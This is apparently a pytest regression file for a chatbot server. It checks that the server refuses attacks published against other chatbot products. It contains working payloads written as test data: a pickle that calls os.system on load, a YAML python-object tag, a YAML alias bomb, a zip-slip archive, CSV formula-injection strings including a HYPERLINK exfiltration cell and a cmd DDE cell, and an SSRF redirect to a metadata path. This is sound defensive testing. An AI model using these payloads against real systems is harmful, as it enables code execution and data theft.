"""Published holes of other chatbot servers, one test for each that we do not have.

Others are shown elsewhere: somebody else's chat by its id (`test_conversations.py`), a script in
a transcript (`tests/e2e/test_text_in_the_browser.py`), requests without end
(`tests/e2e/test_raw_sockets.py`).
"""

import asyncio
import csv
import io
import json
import os
import pickle
import threading
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from app import exchange
from app.database import intents
from app.database.database import Database
from app.errors import InvalidInput
from app.main import load_classifier
from generator.interface import ChatMessage, GeneratorError
from generator.remote import RemoteGenerator
from intent.interface import ArtifactError
from tests.integration.conftest import Served
from tests.integration.routes import routes


class _Command:
    """Unpickling it runs a command."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> Any:
        return os.system, (self._command,)


def test_a_foreign_network_file_is_refused_and_runs_nothing(tmp_path: Path) -> None:
    """Rasa, CVE-2024-49375: a crafted model file ran code when it was loaded."""
    trace = tmp_path / "it ran"
    payload = pickle.dumps(_Command(f"touch '{trace}'"))
    as_torch_saves = io.BytesIO()
    with zipfile.ZipFile(as_torch_saves, "w") as archive:
        archive.writestr("archive/data.pkl", payload)
    header = json.dumps({"__metadata__": {"twofold.intent": payload.hex()}}).encode()
    for content in (
        payload,
        as_torch_saves.getvalue(),
        len(header).to_bytes(8, "little") + header,
        (2**63 - 1).to_bytes(8, "little") + b"{}",
        b"",
    ):
        with pytest.raises(ArtifactError):
            load_classifier(content)
    assert not trace.exists()


def test_no_route_takes_a_network_or_an_address_to_fetch(served: Served) -> None:
    """Rasa's API loads a model from a path or a server that the request names."""
    document = served.client.app.openapi()
    assert all(
        list(operation["requestBody"]["content"]) == ["application/json"]
        for operations in document["paths"].values()
        for operation in operations.values()
        if "requestBody" in operation
    )
    fields = {
        name
        for route in routes(served)
        for name in (route.body or {})
    }  # fmt: skip
    assert not fields & {"url", "uri", "path", "file", "model_file", "model_server", "webhook"}


def test_a_redirect_of_the_engine_is_not_followed_inside() -> None:
    """LobeChat, CVE-2024-32964 and others: a URL that answers with a redirect to an address
    that only the server can reach."""
    with _answering(200, {}) as (inside, asked_inside):
        for status in (301, 302, 303, 307, 308):
            with _answering(status, {"Location": f"{inside}/latest/meta-data"}) as (engine, asked):
                generator = RemoteGenerator(f"{engine}/v1", "any")

                async def ask(generator: RemoteGenerator = generator) -> None:
                    try:
                        async for _ in generator.stream([ChatMessage("user", "hello")]):
                            pass
                    finally:
                        await generator.aclose()

                with pytest.raises(GeneratorError):
                    asyncio.run(ask())
                assert asked
        assert asked_inside == []


def test_a_formula_in_an_export_is_text_in_a_spreadsheet(
    database: Database, tmp_path: Path
) -> None:
    """Chatwoot, Zammad and others: a visitor's message that a colleague's spreadsheet computes."""
    texts = [
        '=HYPERLINK("http://x/?"&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
        "|calc", "％1", "＝1+1", "'=1+1", '"=1+1', "''-1", "it's fine", "'quoted'", "a = b",
        "=1\n=2", "no\n=formula",
    ]  # fmt: skip
    database.write_now(lambda c: intents.create(c, "odd", example_texts=texts))
    path = tmp_path / "examples.csv"
    database.read_now(lambda c: exchange.export(c, path))
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    for cell in cells:
        assert cell.lstrip(" \"'\u3000")[:1] not in tuple("=+-@|＝＋－＠％\t\r\n") or cell[0] == "'"
    assert {text for text in texts if text in cells} == {
        "it's fine", "'quoted'", "a = b", "no\n=formula"
    }  # fmt: skip
    read = exchange.read([path]).training
    assert sorted(one.text for one in read.examples) == sorted(texts)


@pytest.mark.timeout(60)
def test_an_alias_bomb_at_import_is_refused_at_once(tmp_path: Path) -> None:
    """The "billion laughs" of every YAML importer."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9)]
    path = tmp_path / "bomb.yml"
    for content in ("\n".join(lines), "responses: &a [*a]", "nlu: " + "[" * 5_000):
        path.write_text(content)
        start = time.process_time()
        with pytest.raises(InvalidInput, match=r"anchors|nested|not valid YAML"):
            exchange.read([path])
        assert time.process_time() - start < 5


def test_an_object_of_python_in_yaml_is_not_made(tmp_path: Path) -> None:
    trace = tmp_path / "it ran"
    path = tmp_path / "object.yml"
    path.write_text(f"responses: !!python/object/apply:os.system ['touch {trace}']\n")
    with pytest.raises(InvalidInput):
        exchange.read([path])
    assert not trace.exists()


def test_an_archive_is_not_opened_at_import(tmp_path: Path) -> None:
    """Zip bombs, and archives whose names lead out of the folder."""
    path = tmp_path / "data.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../outside.yml", "a" * 10_000_000)
    with pytest.raises(InvalidInput, match="we read"):
        exchange.read([path])
    path.rename(tmp_path / "data.yml")  # also under a name that we do read
    with pytest.raises(InvalidInput):
        exchange.read([tmp_path / "data.yml"])
    assert not (tmp_path.parent / "outside.yml").exists()


@contextmanager
def _answering(status: int, headers: dict[str, str]) -> Iterator[tuple[str, list[str]]]:
    """A server of that one answer; its address, and the paths that it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            asked.append(self.path)
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST = _answer

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()
